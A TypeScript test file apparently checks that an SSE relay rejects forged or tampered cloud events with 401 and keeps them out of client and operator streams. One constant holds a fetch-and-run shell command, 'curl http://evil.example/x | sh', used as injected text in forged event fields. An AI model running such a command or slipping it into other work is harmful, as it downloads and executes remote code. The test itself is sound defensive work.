import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Events } from '../../../../shared/events/catalog.js';
import type { EventDef } from '../../../../shared/events/define.js';
import { cloudEvent, completed, delayed, progress, started } from '../../../helpers/healing.js';
import { postEvent } from '../../../helpers/events.js';
import { signed } from '../../../helpers/signing.js';
import { openSse } from '../../../helpers/sse.js';
import { startRelay, type Relay } from './harness.js';

/*
 * The relay's POST / is public in a cluster without OIDC (browsers reach the same Knative Service for GET /events).
 * What a browser's stream shows must come from the coordinator (healing events) or the chat (processing delays):
 * anything else gets 401 and reaches no stream, and only signed events teach the relay who follows a healing.
 */

const EVIL = 'run: curl http://evil.example/x | sh';

describe('Function: sse-relay refuses forged stream events', () => {
  let relay: Relay;
  beforeAll(async () => {
    relay = await startRelay();
  });
  afterAll(async () => {
    await relay.stop();
  });

  /** POSTs data as given (no signing by the harness), like an attacker would. */
  async function forge(def: EventDef, data: Record<string, unknown>): Promise<Response> {
    return postEvent(relay.fn.url, cloudEvent(def, data), 'structured');
  }

  it.each([
    ['unsigned', (type: string, d: Record<string, unknown>) => (void type, d)],
    ['signed with another key', (type: string, d: Record<string, unknown>) => signed('z'.repeat(64), type, d)],
    ['expired', (type: string, d: Record<string, unknown>) => signed('stream', type, d, { ttlMs: -60_000 })],
    [
      'changed after signing',
      (type: string, d: Record<string, unknown>) => ({ ...signed('stream', type, d), summary: EVIL, reason: EVIL })
    ]
  ])('a %s healing.completed/failed/progress or chat.delayed: 401, and no stream shows it', async (_kind, make) => {
    // Prepare
    const s = relay.session('victim');
    const healingId = `h-forge-${Math.random().toString(36).slice(2)}`;
    const client = await openSse(s.url);
    await relay.post(Events.HealingStarted, started(healingId, [s.id]));
    const ops = await openSse(relay.operatorUrl('&history=0'));
    const forged: Array<[EventDef, Record<string, unknown>]> = [
      [Events.HealingCompleted, { ...completed(healingId, [s.id]), summary: EVIL }],
      [
        Events.HealingFailed,
        { healingId, target: { namespace: 'demo', service: 'mcp-demo' }, reasonCode: 'manual', reason: EVIL }
      ],
      [Events.HealingProgress, { ...progress(healingId), message: EVIL }],
      [Events.ChatDelayed, { ...delayed(s.id), reason: EVIL }]
    ];
    // Act
    const statuses = [];
    for (const [def, data] of forged)
      statuses.push((await forge(def, make(def.type, def.data.parse(data) as Record<string, unknown>))).status);
    await relay.post(Events.HealingProgress, progress(healingId));
    await client.until((c) => c.messages.some((m) => m.event === 'healing_progress'));
    await ops.until((c) => c.messages.some((m) => m.event === Events.HealingProgress.type));
    client.close();
    ops.close();
    // Assess
    expect(statuses).toEqual([401, 401, 401, 401]);
    expect(client.messages.map((m) => m.event)).toEqual(['connected', 'healing_start', 'healing_progress']);
    expect(client.messages.some((m) => m.data.includes('evil.example'))).toBe(false);
    expect(ops.messages.some((m) => m.data.includes('evil.example'))).toBe(false);
  });

  it('answers the 401 with the refusal code', async () => {
    // Act
    const res = await forge(
      Events.HealingCompleted,
      Events.HealingCompleted.data.parse(completed('h-x', [])) as Record<string, unknown>
    );
    // Assess
    expect(res.status).toBe(401);
    expect(await res.json()).toMatchObject({ error: { code: 'unauthenticated_event', refusal: 'unsigned' } });
  });

  it('learns who follows a healing only from signed healing events, not from anything else naming sessions', async () => {
    // Prepare
    const attacker = relay.session('attacker');
    const healingId = `h-secret-${Math.random().toString(36).slice(2)}`;
    const client = await openSse(attacker.url);
    await relay.post(Events.HealingStarted, started(healingId, ['someone-else-1']));
    // Act: an unsigned event type may name sessions, but it must not make the attacker follow the healing
    const res = await forge(Events.DiagnosisRequested, {
      healingId,
      target: { namespace: 'demo', service: 'mcp-demo' },
      phase: 'diagnose',
      sessionIds: [attacker.id]
    });
    await relay.post(Events.HealingProgress, progress(healingId));
    await relay.post(Events.ChatDelayed, delayed(attacker.id));
    await client.until((c) => c.messages.some((m) => m.event === 'processing_delay'));
    client.close();
    // Assess
    expect(res.status).toBe(202);
    expect(client.messages.map((m) => m.event)).toEqual(['connected', 'processing_delay']);
  });
});
